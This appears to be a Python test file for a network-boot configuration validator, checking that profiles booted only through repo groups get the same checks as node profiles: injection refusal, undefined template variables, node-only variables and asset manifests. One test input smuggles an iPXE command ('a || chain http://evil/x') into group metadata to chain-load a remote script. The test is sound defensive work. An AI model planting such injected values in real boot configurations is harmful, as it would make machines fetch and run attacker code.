"""Profiles that repo groups boot (machines no node file declares) are validated like node ones."""

from __future__ import annotations

from reconciler.core.model import Issue, Severity
from reconciler.core.validate import validate
from tests import repo_builder

RESCUE = """\
boot:
  kernel: /assets/rescue/vmlinuz
  args: [{args}]
"""


def group_issues(args: str, metadata: str = "{}", extra: dict[str, str | None] | None = None) -> list[Issue]:
    edits: dict[str, str | None] = {
        "profiles/rescue.yaml": RESCUE.format(args=args),
        "groups/default.yaml": f"profile: rescue\nmetadata: {metadata}\n",
        **(extra or {}),
    }
    return list(validate(repo_builder.snapshot(edits)).issues)


def test_injection_through_group_metadata_is_refused() -> None:
    # `||` separates iPXE commands only as a word of its own: the breakout needs white space.
    issues = group_issues("'x={{ metadata.extra }}'", metadata="{extra: 'a || chain http://evil/x'}")
    assert [(i.code, i.file, i.line) for i in issues if i.is_error] == [("arg-whitespace", "profiles/rescue.yaml", 3)]


def test_injection_in_a_literal_arg_of_a_group_only_profile_is_refused() -> None:
    issues = group_issues("console=ttyS0, '||', 'chain'")
    assert "boot-value-unsafe" in {i.code for i in issues if i.is_error}


def test_unknown_variable_in_a_group_only_profile_is_an_error() -> None:
    issues = group_issues("'console={{ consol }}'")
    errors = [i for i in issues if i.is_error]
    assert [(i.code, i.file, i.line) for i in errors] == [("template-undefined", "profiles/rescue.yaml", 3)]
    assert "group 'default'" in errors[0].message


def test_node_only_variable_in_a_group_profile_is_a_warning() -> None:
    issues = group_issues("'ds=nocloud;s={{ cloud_init_url }}'")
    assert [(i.code, i.severity, i.file) for i in issues] == [
        ("group-profile-needs-node", Severity.WARNING, "groups/default.yaml")
    ]


def test_group_only_profile_assets_are_checked_against_the_manifest() -> None:
    manifest = "assets:\n  - path: /assets/vmlinuz\n  - path: /assets/initrd\n"
    issues = group_issues(
        "console=ttyS0", extra={"assets.yaml": manifest + "  - path: /assets/ubuntu-22.04.5-live-server-amd64.iso\n"}
    )
    assert [(i.code, i.message.split(":")[0]) for i in issues] == [("asset-not-listed", "/assets/rescue/vmlinuz")]
